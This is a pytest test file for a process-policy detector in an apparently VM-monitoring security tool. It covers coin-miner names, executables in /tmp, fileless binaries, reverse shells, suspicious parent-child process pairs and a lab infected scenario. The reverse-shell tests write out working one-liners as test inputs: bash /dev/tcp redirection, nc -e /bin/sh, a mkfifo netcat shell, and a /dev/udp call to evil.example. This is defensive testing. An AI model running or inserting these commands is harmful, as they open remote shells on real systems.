"""The process-policy detector: hand-built process lists for the edge cases, and the lab
guest's real process list (infected scenario) for the ground truth."""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Sequence

import pytest

from detectors.process_policy import (
    DETECTOR,
    KnownBadProcessName,
    SuspiciousCommandLine,
    SuspiciousExecutable,
    SuspiciousParentChild,
    executable_paths,
    script_path,
)
from sva.engine.engine import Engine
from sva.engine.facts import CycleFacts, FactRegistry, FactView, ProcessInfo, StaticFact
from sva.engine.model import AlertState, Finding, Severity, VmIdentity
from sva.engine.ruleload import loads_rules
from sva.engine.rules import Maturity, RuleSet
from sva.engine.sinks import MemorySink
from sva.engine.testing import lab_processes, proc, shipped_rules
from sva.lab import scenarios

RULES = shipped_rules()
ALL_RULES = shipped_rules(frozenset(Maturity))


def detect(procs: Sequence[ProcessInfo], rules: RuleSet = RULES) -> list[Finding]:
    facts = CycleFacts(FactRegistry([StaticFact("processes", tuple(procs))]))
    return list(DETECTOR.detect(FactView(DETECTOR.id, DETECTOR.needs, facts), rules))


def hits(procs: Sequence[ProcessInfo], rules: RuleSet = RULES) -> dict[int, set[str]]:
    """pid -> ids of the rules that fired on it."""
    out: dict[int, set[str]] = defaultdict(set)
    for f in detect(procs, rules):
        assert f.process is not None
        out[f.process.pid].add(f.rule)
    return dict(out)


INIT = proc(1, "init", "/sbin/init", ppid=0, exe="/usr/lib/systemd/systemd")
KTHREADD = proc(2, "kthreadd", ppid=0, uid=0)


def with_init(*procs: ProcessInfo) -> list[ProcessInfo]:
    return [INIT, KTHREADD, *procs]


# -- miners -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("p", "matched_on"),
    [
        (proc(10, "xmrig", "./xmrig", exe="/opt/x/xmrig"), "comm"),
        (proc(10, "kworker/0:1", "[kworker/0:1]", exe="/usr/local/bin/XMRig"), "exe"),  # renamed comm
        (proc(10, "python3", "/usr/bin/python3", "/srv/kinsing", exe="/usr/bin/python3.11"), "script"),
        (proc(10, "bash", "kdevtmpfsi", exe=None), "argv0"),
    ],
)
def test_miner_names_from_comm_exe_script_or_argv0(p: ProcessInfo, matched_on: str) -> None:
    (f,) = [f for f in detect(with_init(p)) if f.rule == "SVA-PROC-MINER-NAME"]
    assert isinstance(f, KnownBadProcessName)
    assert f.evidence["matched_on"] == matched_on
    assert (f.severity, f.mitre, f.kind) == (Severity.HIGH, ("T1496",), "process.name")
    assert f.title == f"Known coin-miner process name: pid 10 ({p.comm})"


def test_a_long_miner_name_matches_its_truncated_comm() -> None:
    rules = loads_rules(_rule("process_name", 'names = ["superlongminername"]'))
    assert hits(with_init(proc(10, "superlongminern")), rules) == {10: {"R"}}
    assert hits(with_init(proc(10, "superlongminer")), rules) == {}


def test_stratum_urls_whatever_the_binary() -> None:
    helper = "/usr/sbin/systemd-helper"
    p = proc(10, "systemd-helper", helper, "-o", "stratum+ssl://pool:443", exe=helper)
    assert hits(with_init(p)) == {10: {"SVA-PROC-MINER-STRATUM"}}


# -- executable locations ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("p", "expected"),
    [
        (proc(10, "x", "/tmp/x", exe="/tmp/x"), ("/tmp/", "exe", "/tmp/x")),
        (proc(10, "x", "./x", exe="/dev/shm/.x/x"), ("/dev/shm/", "exe", "/dev/shm/.x/x")),
        (proc(10, "python3", "python3", "-u", "/var/tmp/a.py", exe="/usr/bin/python3.11"),
         ("/var/tmp/", "script", "/var/tmp/a.py")),
        (proc(10, "sh", "busybox", "sh", "/tmp/s", exe="/bin/busybox"), ("/tmp/", "script", "/tmp/s")),
        (proc(10, "x", "/tmp/x"), ("/tmp/", "argv0", "/tmp/x")),  # exe unknown: argv[0] stands in
    ],
)
def test_exec_from_world_writable_directories(p: ProcessInfo, expected: tuple[str, str, str]) -> None:
    (f,) = [f for f in detect(with_init(p)) if f.rule == "SVA-PROC-EXEC-TMP"]
    assert isinstance(f, SuspiciousExecutable)
    assert (f.evidence["matched"], f.evidence["matched_on"], f.evidence["path"]) == expected
    assert f.mitre == ("T1036",)


@pytest.mark.parametrize(
    "p",
    [
        proc(10, "cat", "cat", "/tmp/f", exe="/bin/busybox"),  # busybox applet reading a file
        proc(10, "sh", "sh", "-c", "cd /tmp/x && make", exe="/bin/dash"),  # inline code, no script
        proc(10, "tmpwatch", "/usr/sbin/tmpwatch", "/tmp/", exe="/usr/sbin/tmpwatch"),  # not an interpreter
        proc(10, "x", "/tmpfoo/x", exe="/tmpfoo/x"),  # a prefix is a directory
        proc(10, "python3", "python3", "relative/tmp/x.py", exe="/usr/bin/python3"),
    ],
)
def test_not_exec_from_tmp(p: ProcessInfo) -> None:
    assert hits(with_init(p)) == {}


def test_deleted_and_memfd_executables() -> None:
    deleted = proc(10, "sshd", "/usr/sbin/sshd", exe="/usr/sbin/sshd", exe_deleted=True)
    memfd = proc(11, "x", "x", exe="/memfd:payload", exe_deleted=True)
    fine = proc(12, "sshd", "/usr/sbin/sshd", exe="/usr/sbin/sshd")
    found = {f.process.pid: f for f in detect(with_init(deleted, memfd, fine)) if f.rule == "SVA-PROC-EXEC-FILELESS"}  # type: ignore[union-attr]
    assert sorted(found) == [10, 11]
    assert found[10].evidence["matched"] == "deleted" and found[10].evidence["exe_deleted"] is True
    assert found[11].evidence["matched"] == "memfd"
    assert found[11].mitre == ("T1620", "T1036")


def test_script_path_and_executable_paths() -> None:
    assert script_path(proc(1, "perl", "perl", "-e", "print 1", exe="/usr/bin/perl")) is None
    assert script_path(proc(1, "x", "/usr/bin/env", "/tmp/x")) is None
    assert script_path(proc(1, "sh", "/bin/sh", "/tmp/xmrig", "-o", "x", exe="/bin/busybox")) == "/tmp/xmrig"
    paths = executable_paths(proc(1, "sh", "/bin/sh", "/tmp/a", exe="/bin/dash"))
    assert paths == [("exe", "/bin/dash"), ("script", "/tmp/a")]


# -- reverse shells ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ("nc", "-e", "/bin/sh", "10.0.0.1", "4444"),
        ("/usr/bin/ncat", "--exec", "/bin/bash", "10.0.0.1", "4444"),
        ("busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"),
        ("nc", "-lvpe", "/bin/sh", "4444"),
        ("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        ("sh", "-c", "exec 5<>/dev/udp/evil.example/53"),
        ("/bin/bash", "-i"),
        ("sh", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f"),
        ("sh", "-c", "sh -i 2>&1 | busybox nc 10.0.0.1 4444"),
    ],
)
def test_reverse_shell_command_lines(argv: tuple[str, ...]) -> None:
    p = proc(10, argv[0].rsplit("/", 1)[-1], *argv, exe="/usr/bin/x")
    found = [f for f in detect(with_init(p)) if f.rule == "SVA-PROC-REVSHELL"]
    assert len(found) == 1, argv
    f = found[0]
    assert isinstance(f, SuspiciousCommandLine)
    assert (f.severity, f.mitre) == (Severity.CRITICAL, ("T1059.004",))
    assert f.evidence["match"] and f.evidence["argv"] == list(argv)


@pytest.mark.parametrize(
    "argv",
    [
        ("nc", "-zv", "10.0.0.1", "22"),
        ("nc", "-l", "-p", "8080"),
        ("grep", "-e", "nc", "/var/log/syslog"),
        ("ssh", "-i", "/root/.ssh/id", "host"),
        ("bash", "-il"),
        ("/usr/bin/nc.openbsd", "-U", "/run/x.sock"),
        ("sh", "-c", "cat /dev/tcpdump.log"),
    ],
)
def test_not_reverse_shells(argv: tuple[str, ...]) -> None:
    p = proc(10, argv[0].rsplit("/", 1)[-1], *argv, exe="/usr/bin/x")
    assert hits(with_init(p)) == {}, argv


def test_netcat_to_a_bare_ip_is_incubating() -> None:
    p = proc(10, "nc", "nc", "10.0.2.100", "4444", exe="/bin/busybox")
    assert hits(with_init(p)) == {10: {"SVA-PROC-NETCAT-IP"}}
    assert hits(with_init(p), RULES.with_maturities(["stable"])) == {}


# -- parent → child ---------------------------------------------------------------------


def test_service_starting_a_shell() -> None:
    nginx = proc(100, "nginx", "nginx: worker process", exe="/usr/sbin/nginx", uid=33)
    fpm = proc(200, "php-fpm8.2", "php-fpm: pool www", exe="/usr/sbin/php-fpm8.2", uid=33)
    procs = with_init(
        nginx,
        proc(101, "sh", "sh", "-c", "id", ppid=100, exe="/bin/dash", uid=33),
        proc(102, "nginx", "nginx: worker process", ppid=100, exe="/usr/sbin/nginx"),  # not a shell
        fpm,
        proc(201, "bash", "bash", ppid=200, exe="/bin/bash", uid=33),
        proc(300, "sh", "sh", ppid=1, exe="/bin/dash"),  # init → sh is fine
        proc(400, "sh", "sh", ppid=999, exe="/bin/dash"),  # parent not in the list
    )
    found = [f for f in detect(procs) if isinstance(f, SuspiciousParentChild)]
    assert [(f.parent.pid, f.process.pid) for f in found] == [(100, 101), (200, 201)]  # type: ignore[union-attr]
    f = found[0]
    assert f.title == "Network service started a shell: nginx (pid 100) -> sh (pid 101)"
    assert f.evidence["matched"] == "nginx -> sh" and f.evidence["parent_argv"] == ["nginx: worker process"]
    assert f.mitre == ("T1190", "T1505.003")


# -- tuning -----------------------------------------------------------------------------


def _rule(kind: str, body: str, allow: str = "") -> str:
    return (f'[ruleset]\nversion = "1"\n\n[[rule]]\nid = "R"\nkind = "{kind}"\nversion = 1\nmaturity = "stable"\n'
            f'severity = "medium"\ntitle = "T"\ndescription = "D"\n{body}\n{allow}\n')  # fmt: skip


@pytest.mark.parametrize(
    "allow",
    [
        'allow_comms = ["xmrig"]',
        'allow_paths = ["/opt/mining/"]',
        "allow_cmdlines = ['--pool legit\\.example']",
    ],
)
def test_allow_lists_are_the_tuning_points(allow: str) -> None:
    p = proc(10, "xmrig", "/opt/mining/xmrig", "--pool", "legit.example", exe="/opt/mining/xmrig")
    assert hits(with_init(p), loads_rules(_rule("process_name", 'names = ["xmrig"]'))) == {10: {"R"}}
    assert hits(with_init(p), loads_rules(_rule("process_name", 'names = ["xmrig"]', allow))) == {}


def test_parent_allow_list() -> None:
    body = 'parents = ["httpd"]\nchildren = ["sh"]'
    procs = with_init(proc(10, "httpd", "httpd", exe="/usr/sbin/httpd"), proc(11, "sh", "sh", ppid=10, exe="/bin/sh"))
    assert hits(procs, loads_rules(_rule("parent_child", body))) == {11: {"R"}}
    assert hits(procs, loads_rules(_rule("parent_child", body, 'allow_parent_paths = ["/usr/sbin/httpd"]'))) == {}


def test_disabled_and_sandbox_rules_do_not_fire() -> None:
    p = proc(10, "xmrig")
    assert hits(with_init(p), loads_rules(_rule("process_name", 'names = ["xmrig"]\nenabled = false'))) == {}
    sandbox = _rule("process_name", 'names = ["xmrig"]').replace('"stable"', '"sandbox"')
    assert hits(with_init(p), loads_rules(sandbox)) == {}


# -- evidence and bounds ------------------------------------------------------------------


def test_findings_carry_process_parent_rule_and_bounded_evidence() -> None:
    argv = ["/tmp/x", *[f"arg{i}" for i in range(500)], "y" * 5000]
    p = proc(10, "x", *argv, ppid=1, uid=1000, exe="/tmp/x", start_time=123, task_address=0xFFFF888000001000)
    (f,) = detect(with_init(p))
    assert (f.process, f.parent, f.rule) == (p, INIT, "SVA-PROC-EXEC-TMP")
    ev = f.evidence
    who = (ev["pid"], ev["comm"], ev["ppid"], ev["parent_comm"], ev["uid"], ev["exe"])
    assert who == (10, "x", 1, "init", 1000, "/tmp/x")
    assert len(ev["argv"]) == 64 and ev["argv_truncated"] == len(argv)
    assert f.dedup_key == ("process.exec_path", 10, 123, "SVA-PROC-EXEC-TMP")
    assert DETECTOR.material_fields <= set(ev)


def test_kernel_threads_and_empty_lists() -> None:
    assert detect([]) == []
    assert hits([KTHREADD, proc(3, "kworker/0:0", ppid=2, exe=None)]) == {}


def test_hostile_command_lines_stay_fast() -> None:
    import time

    nasty = proc(10, "nc", *(["nc"] * 20000), exe="/bin/nc")
    t0 = time.perf_counter()
    detect([nasty], ALL_RULES)
    assert time.perf_counter() - t0 < 2.0


def test_through_the_engine_alerts_once_then_still_present() -> None:
    procs = with_init(proc(10, "xmrig", "/tmp/xmrig", exe="/tmp/xmrig"))
    sink = MemorySink()
    eng = Engine(VmIdentity("web01", "lab:web01"), rules=RULES, detectors=[DETECTOR],
                 facts=FactRegistry([StaticFact("processes", tuple(procs))]), sinks=[sink])  # fmt: skip
    first = eng.run_cycle()
    assert sorted(a.finding.rule for a in first.new) == ["SVA-PROC-EXEC-TMP", "SVA-PROC-MINER-NAME"]
    assert {a.rule_version for a in first.new} == {"1"} and first.new[0].detector_version == DETECTOR.version
    second = eng.run_cycle()
    assert {a.state for a in second.alerts} == {AlertState.STILL_PRESENT}
    assert len(sink.of_type("alert")) == 2


# -- the lab guest's real process list ----------------------------------------------------


@pytest.fixture(scope="module")
def lab_procs(lab_guest) -> tuple[ProcessInfo, ...]:  # type: ignore[no-untyped-def]
    return lab_processes(lab_guest.name)


def _role_pids(procs: Sequence[ProcessInfo]) -> dict[str, int]:
    out: dict[str, int] = {}
    for expected in scenarios.INFECTED.processes:
        matching = [p.pid for p in procs if expected.matches(p.comm, p.cmdline)]
        assert len(matching) == 1, (expected.role, matching)
        out[expected.role] = matching[0]
    return out


# What each process of the infected scenario must (and must only) trigger.
EXPECTED_LAB_HITS = {
    "coin_miner": {"SVA-PROC-MINER-NAME", "SVA-PROC-MINER-STRATUM", "SVA-PROC-EXEC-TMP"},
    "reverse_shell_loop": {"SVA-PROC-REVSHELL"},
    "reverse_shell": {"SVA-PROC-NETCAT-IP"},
}


@pytest.mark.lab
def test_lab_infected_scenario_exactly(lab_procs: tuple[ProcessInfo, ...]) -> None:
    roles = _role_pids(lab_procs)
    expected = {roles[role]: rules for role, rules in EXPECTED_LAB_HITS.items()}
    assert hits(lab_procs) == expected  # no false positive on init, kernel threads, the console, cat /tmp/f …

    by_pid = {f.process.pid: f for f in detect(lab_procs) if f.rule == "SVA-PROC-REVSHELL"}  # type: ignore[union-attr]
    shell = by_pid[roles["reverse_shell_loop"]]
    c2_ip, c2_port = scenarios.C2_ADDRESS
    assert f"nc {c2_ip} {c2_port}" in shell.process.cmdline  # type: ignore[union-attr]
    assert shell.parent is not None and shell.parent.comm == "init"
    miner = next(f for f in detect(lab_procs) if f.rule == "SVA-PROC-EXEC-TMP")
    assert (miner.evidence["matched_on"], miner.evidence["path"]) == ("script", "/tmp/xmrig")
    assert any(a.startswith("stratum+tcp://") for a in miner.evidence["argv"])


@pytest.mark.lab
def test_lab_ps_view_gives_the_same_detections(lab_guest, lab_procs: tuple[ProcessInfo, ...]) -> None:  # type: ignore[no-untyped-def]
    """Built from `sva.lab.ps` (pid, ppid, comm, args only), the verdicts are the same."""
    from sva import lab

    from_ps = [
        ProcessInfo(pid=g.pid, ppid=g.ppid, comm=g.comm, argv=tuple(g.args.split())) for g in lab.ps(lab_guest.name)
    ]
    roles = _role_pids(from_ps)
    # Without exe paths the script is still found through argv; nothing else changes.
    assert hits(from_ps) == {roles[role]: rules for role, rules in EXPECTED_LAB_HITS.items()}
    assert {p.pid for p in from_ps} == {p.pid for p in lab_procs}


@pytest.mark.lab
def test_lab_live_cycle_freezes_the_real_guest(lab_guest, lab_procs: tuple[ProcessInfo, ...], tmp_path) -> None:  # type: ignore[no-untyped-def]
    """One engine cycle against the running QEMU guest: the registers are read while it is
    paused (a real QMP stop/cont), the process policy alerts on the scenario, and the
    JSON-lines output is valid bus events."""
    import json

    from sva.bus.schema import validate_event
    from sva.engine.facts import backend_fact_providers
    from sva.engine.sinks import JsonLinesSink
    from sva.engine.testing import FunctionDetector
    from sva.vmi import open_target

    rips: list[int] = []
    regs = FunctionDetector("vcpu_state", lambda f, r: rips.extend(x.rip for x in f["vcpu_registers"]) or [],
                            needs=frozenset({"vcpu_registers"}))  # fmt: skip
    out = tmp_path / "alerts.jsonl"
    with open_target(f"lab:{lab_guest.name}") as backend:
        eng = Engine(VmIdentity(lab_guest.name, f"lab:{lab_guest.name}"), rules=RULES, detectors=[DETECTOR, regs],
                     facts=FactRegistry([*backend_fact_providers(), StaticFact("processes", lab_procs)]),
                     backend=backend, sinks=[JsonLinesSink(out)], signature_bundle="test")  # fmt: skip
        report = eng.run_cycle()
        eng.close()
    assert report.error is None and report.pause_seconds is not None and report.pause_seconds > 0
    assert [r.status for r in report.detectors] == ["ok", "ok"] and rips
    assert {r.name: r.in_freeze for r in report.facts} == {"vcpu_registers": True, "processes": False}
    expected = sorted(r for rules in EXPECTED_LAB_HITS.values() for r in rules)
    assert sorted(a.finding.rule for a in report.new) == expected
    events = [json.loads(line) for line in out.read_text().splitlines()]
    for e in events:
        validate_event(e)
    assert len(events) == len(report.new)
    assert {e["payload"]["resources"][0]["uid"] for e in events} == {f"lab:{lab_guest.name}"}
